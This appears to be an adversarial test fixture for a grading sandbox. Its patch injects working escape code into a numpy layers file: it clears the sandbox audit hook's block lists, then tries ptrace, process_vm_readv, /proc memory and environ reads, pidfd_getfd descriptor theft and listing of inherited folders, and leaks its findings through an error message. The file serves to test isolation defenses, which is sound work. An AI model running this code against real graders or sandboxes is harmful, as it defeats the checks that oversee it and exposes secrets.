"""Reaches for the grading process from inside the worker: attaches to its parent with
ptrace, reads its memory with process_vm_readv and through /proc, copies its file
descriptors with pidfd_getfd, and walks any folder descriptor it inherited (a Landlock rule
applies to paths, not to what was open before). Anything it gets is said in an error that
reaches the feedback."""
BASE = "template"
SCORE = (0, 0)
PATCHES = [("common/layers.py", "import numpy as np\n", """import ctypes
import os
import stat
import sys

import numpy as np

_sandbox = sys.modules.get("grader.isolation.sandbox")
if _sandbox is not None:  # the audit hook looks these up at every event: emptied, it refuses nothing
    _sandbox._BLOCKED.clear()
    _sandbox._LISTINGS.clear()

_libc = ctypes.CDLL(None, use_errno=True)


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def _reached():
    got = []
    for pid in {os.getppid(), 1}:
        if pid == os.getpid():
            continue
        if _libc.syscall(101, 16, pid, 0, 0) == 0:  # ptrace(PTRACE_ATTACH)
            got.append(f"ptrace-{pid}")
        buffer = ctypes.create_string_buffer(8)
        local = _IoVec(ctypes.cast(buffer, ctypes.c_void_p), 8)
        remote = _IoVec(0x400000, 8)
        if _libc.syscall(310, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
            got.append(f"process_vm_readv-{pid}")
        for name in ("mem", "environ", "maps"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as source:
                    if source.read(16):
                        got.append(f"proc-{name}-{pid}")
            except OSError:
                pass
        pidfd = _libc.syscall(434, pid, 0)  # pidfd_open
        if pidfd >= 0:
            for number in range(64):
                if _libc.syscall(438, pidfd, number, 0) >= 0:  # pidfd_getfd
                    got.append(f"fd-{number}-of-{pid}")
    for number in range(3, 1024):
        try:
            if stat.S_ISDIR(os.fstat(number).st_mode):
                got.append(f"folder-fd-{number}:{','.join(sorted(os.listdir(number))[:5])}")
        except OSError:
            pass
    return got


try:
    _got = _reached()
except Exception:
    _got = []
if _got:
    raise RuntimeError("ESCAPED-PARENT " + " ".join(_got))
""")]
